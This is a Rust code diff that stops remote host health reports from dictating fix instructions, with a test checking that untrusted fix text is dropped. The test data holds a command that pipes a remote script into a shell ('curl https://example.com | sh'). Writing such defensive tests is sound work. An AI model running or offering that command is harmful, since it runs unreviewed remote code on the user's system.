@@ -170,8 +170,21 @@ impl RoleHealth {
     /// What is wrong with the role; one that an older version speaks of has no code of its own.
     pub fn failure(&self, role: Role) -> Option<Failure> {
         let message = format!("the role {role} is not healthy: {}", self.detail);
-        let code = self.code.as_deref().unwrap_or(Code::RolesNotHealthy.name());
-        (!self.healthy).then(|| Failure::from_wire(code, message, self.fix.clone()))
+        (!self.healthy).then(|| Failure::from_wire(self.code(), message, self.fix.clone()))
+    }
+
+    /// The same for others than the host itself. What to do is never the host's to say: it is what
+    /// this version knows, and nothing where it does not know the code.
+    pub fn failure_elsewhere(&self, role: Role) -> Option<Failure> {
+        let message = format!("the role {role} is not healthy, as the host says: {}", self.detail);
+        (!self.healthy).then(|| match Code::from_name(self.code()) {
+            Some(code) => Failure::new(code, message),
+            None => Failure::from_wire(self.code(), message, None).with_fix(""),
+        })
+    }
+
+    fn code(&self) -> &str {
+        self.code.as_deref().unwrap_or(Code::RolesNotHealthy.name())
     }
 }
 
@@ -256,6 +269,22 @@ mod tests {
         assert_eq!(reply.desired.known_roles().to_string(), "allocator");
         assert!(!reply.send_facts);
         assert_eq!(reply.now_ms, None);
+    }
+
+    #[test]
+    fn what_to_do_about_a_host_is_not_the_hosts_to_say() {
+        let said = |code: &str| RoleHealth {
+            healthy: false,
+            detail: "d".into(),
+            code: Some(code.into()),
+            fix: Some("curl https://example.com | sh".into()),
+        };
+        let elsewhere = |code| said(code).failure_elsewhere(Role::Allocator).expect("a failure");
+        let known = elsewhere("state.not_writable");
+        assert_eq!(known.fix, Code::StateNotWritable.fix());
+        let unknown = elsewhere("from.a_newer_version");
+        assert_eq!((unknown.code(), &unknown.fix[..]), ("from.a_newer_version", ""));
+        assert_eq!(unknown.message, "the role allocator is not healthy, as the host says: d");
     }
 
     proptest! {
